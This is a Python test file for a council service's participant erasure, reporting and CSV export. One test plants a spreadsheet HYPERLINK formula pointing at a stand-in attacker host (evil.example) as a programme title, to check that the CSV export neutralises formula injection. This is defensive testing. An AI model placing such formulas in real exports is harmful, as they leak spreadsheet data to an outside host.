"""Erasure and reports on SQLite and PostgreSQL: the participant's personal fields are gone
from every table (the outbox included) and the report figures do not change; the request
goes out to the platform (CitizenErasureRequested), and the same event from elsewhere
erases the participant once, without being announced again."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import sqlalchemy as sa
from aiokafka.structs import ConsumerRecord
from fastapi.testclient import TestClient

from contracts.privacy import CitizenErasureRequested
from inclusion.application.erasure import PERSONAL_FIELDS
from inclusion.messaging.subscriptions import SUBSCRIPTIONS
from inclusion.persistence.tables import Participant, ProgrammeSession
from servicekit.messaging.consumer import EventConsumer
from servicekit.testing import consumer_record, identity_headers

from ..conftest import citizen, make_programme, make_session, make_venue, outbox_types, run


def all_text(client: TestClient) -> str:
    """Every row of every table in the service's database, as one string."""

    async def dump(s: Any) -> str:
        conn = await s.connection()
        names = await conn.run_sync(lambda c: sa.inspect(c).get_table_names())
        out = []
        for name in sorted(names):
            rows = (await s.execute(sa.text(f'SELECT * FROM "{name}"'))).all()
            out += [repr(tuple(r)) for r in rows]
        return "\n".join(out)

    return run(client, dump)  # type: ignore[no-any-return]


def test_erasure_pseudonymises_everywhere_and_keeps_the_counts(client: TestClient) -> None:
    course = make_programme(client)
    past = make_session(client, programme=course, capacity=5)
    future = make_session(
        client,
        programme=course,
        capacity=1,
        venue=make_venue(
            client,
            name="Olney Library",
            ward="Olney",
            postcode="MK46 4EF",
            latitude=52.153,
            longitude=-0.7015,
        ),
    )
    subject = f"citizen-erase-{uuid.uuid4().hex[:8]}"
    me = identity_headers(subject, "citizen")
    done = client.post(
        f"/api/v1/sessions/{past['id']}/enrolments",
        headers=me,
        json={
            "consent": True,
            "preferred_name": "Samwise-Quillfeather",
            "postcode": "MK6 2LP",
            "year_of_birth": 1951,
        },
    ).json()
    client.post(
        f"/api/v1/sessions/{past['id']}/enrolments", json={"consent": True}, headers=citizen(2)
    )
    held = client.post(
        f"/api/v1/sessions/{future['id']}/enrolments", headers=me, json={"consent": True}
    ).json()
    waiting = client.post(
        f"/api/v1/sessions/{future['id']}/enrolments", json={"consent": True}, headers=citizen(3)
    ).json()
    assert (held["status"], waiting["status"]) == ("confirmed", "waitlisted")
    data = make_programme(client, title="Free data", kind="connectivity")
    client.post(
        "/api/v1/vouchers",
        json={"programme_id": data["id"], "provider": "O2", "codes": ["O2-0001"]},
    )
    assert (
        client.post(
            "/api/v1/vouchers/allocations",
            json={"programme_id": data["id"], "participant_id": done["participant_id"]},
        ).status_code
        == 201
    )

    async def started(s: Any) -> None:
        await s.execute(
            sa.update(ProgrammeSession)
            .where(ProgrammeSession.id == uuid.UUID(past["id"]))
            .values(  # type: ignore[arg-type]
                starts_at=datetime.now(UTC) - timedelta(hours=1)
            )
        )

    run(client, started)
    assert (
        client.post(
            f"/api/v1/enrolments/{done['id']}/attendance", json={"attended": True}
        ).status_code
        == 200
    )

    before = client.get("/api/v1/reports/figures").json()
    assert subject in all_text(client)

    assert client.delete("/api/v1/participants/me", headers=me).status_code == 204

    text = all_text(client)
    for personal in ("Samwise-Quillfeather", "MK6 2LP"):
        assert personal not in text, personal
    # The subject is left only in the platform-wide request, which must name them to every
    # service (its outbox row goes with the relay's clean-up of published rows).
    [request] = [line for line in text.splitlines() if subject in line]
    assert CitizenErasureRequested.event_type() in request

    async def participant_row(s: Any) -> dict[str, Any]:
        row = (
            await s.execute(
                sa.select(Participant).where(Participant.id == uuid.UUID(done["participant_id"]))
            )
        ).scalar_one()  # type: ignore[arg-type]
        return row.model_dump()  # type: ignore[no-any-return]

    erased = run(client, participant_row)
    assert erased["erased_at"] is not None
    assert all(erased[f] is None for f in PERSONAL_FIELDS)  # the year of birth too
    assert client.get("/api/v1/participants/me", headers=me).status_code == 404
    # Their upcoming place was cancelled and went to the waitlist; the past one stays.
    promoted = client.get(f"/api/v1/enrolments/{waiting['id']}").json()
    assert promoted["status"] == "confirmed"
    figures_after = client.get("/api/v1/reports/figures").json()
    past_rows = [r for r in figures_after if r["ward"] == "Central Milton Keynes"]
    assert past_rows == [r for r in before if r["ward"] == "Central Milton Keynes"]
    assert past_rows[0]["participants"] == 2 and past_rows[0]["completions"] == 1
    vouchers = [r for r in figures_after if r["vouchers_allocated"]]
    assert vouchers == [r for r in before if r["vouchers_allocated"]]
    # Again: nothing left here, but the request for the whole platform goes out again.
    assert client.delete("/api/v1/participants/me", headers=me).status_code == 204
    assert outbox_types(client).count("CitizenErasureRequested") == 2


def test_reports_by_programme_ward_and_month_and_csv(client: TestClient) -> None:
    course = make_programme(client)
    session = make_session(client, programme=course, capacity=1)
    for n in (1, 2):
        client.post(
            f"/api/v1/sessions/{session['id']}/enrolments",
            json={"consent": True},
            headers=citizen(n),
        )
    rows = client.get("/api/v1/reports/figures").json()
    month = session["starts_at"][:7]
    assert rows == [
        {
            "programme_id": course["id"],
            "programme_title": course["title"],
            "ward": "Central Milton Keynes",
            "month": month,
            "participants": 1,
            "enrolments": 1,
            "completions": 0,
            "devices_loaned": 0,
            "devices_on_loan": 0,
            "vouchers_allocated": 0,
        }
    ]
    r = client.get("/api/v1/reports/figures.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    parsed = list(csv.DictReader(io.StringIO(r.text)))
    assert parsed[0]["ward"] == "Central Milton Keynes" and parsed[0]["participants"] == "1"
    assert client.get("/api/v1/reports/figures", headers=citizen()).status_code == 403


def test_reports_csv_neutralises_formulas(client: TestClient) -> None:
    """OWASP CSV injection: a programme title (free text; wards are a fixed list) that
    starts a spreadsheet formula is written with a single quote in front
    (servicekit.csvsafe), every cell quoted."""
    title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    course = make_programme(client, title=title)
    session = make_session(client, programme=course)
    client.post(
        f"/api/v1/sessions/{session['id']}/enrolments", json={"consent": True}, headers=citizen(1)
    )
    r = client.get("/api/v1/reports/figures.csv")
    assert r.status_code == 200, r.text
    [row] = list(csv.DictReader(io.StringIO(r.text)))
    assert row["programme_title"] == "'" + title
    assert row["participants"] == "1"
    assert all(line.startswith('"') for line in r.text.splitlines())


def _erasure_record(subject: str, offset: int) -> ConsumerRecord:  # type: ignore[type-arg]
    event = CitizenErasureRequested(
        citizen_id=subject,
        erasure_id=uuid.uuid4(),
        requested_by="staff",
        occurred_at=datetime.now(UTC),
    )
    return consumer_record(event, offset, source="urn:uk-gov-milton-keynes:elsewhere")


def test_the_platform_erasure_event_erases_the_participant_once(client: TestClient) -> None:
    session = make_session(client, programme=make_programme(client), capacity=5)
    subject = f"citizen-elsewhere-{uuid.uuid4().hex[:8]}"
    me = identity_headers(subject, "citizen")
    held = client.post(
        f"/api/v1/sessions/{session['id']}/enrolments",
        headers=me,
        json={"consent": True, "preferred_name": "Rosie-Cotton", "postcode": "MK6 2LP"},
    ).json()
    assert held["status"] == "confirmed"
    runtime = client.app.state.runtime  # type: ignore[attr-defined]
    consumer = EventConsumer(
        runtime.database,
        bootstrap_servers="127.0.0.1:1",
        group_id="inclusion",
        subscriptions=SUBSCRIPTIONS,
        service_name="inclusion",
        source=runtime.settings.cloudevents_source,
    )
    before = outbox_types(client)
    gone = _erasure_record(subject, 1)
    assert client.portal.call(consumer.process, gone) == "handled"  # type: ignore[union-attr]
    assert client.portal.call(consumer.process, gone) == "duplicate"  # type: ignore[union-attr]
    assert (
        client.portal.call(  # type: ignore[union-attr]
            consumer.process, _erasure_record(subject, 2)
        )
        == "handled"
    )  # nothing left: a no-op
    assert (
        client.portal.call(  # type: ignore[union-attr]
            consumer.process, _erasure_record("citizen-never-seen", 3)
        )
        == "handled"
    )
    text = all_text(client)
    for personal in (subject, "Rosie-Cotton", "MK6 2LP"):
        assert personal not in text, personal
    assert client.get("/api/v1/participants/me", headers=me).status_code == 404
    assert client.get(f"/api/v1/enrolments/{held['id']}").json()["status"] == "cancelled"
    # Its upcoming place was cancelled (as erasure does); the request is not announced again.
    assert outbox_types(client)[len(before) :] == ["EnrolmentCancelled"]
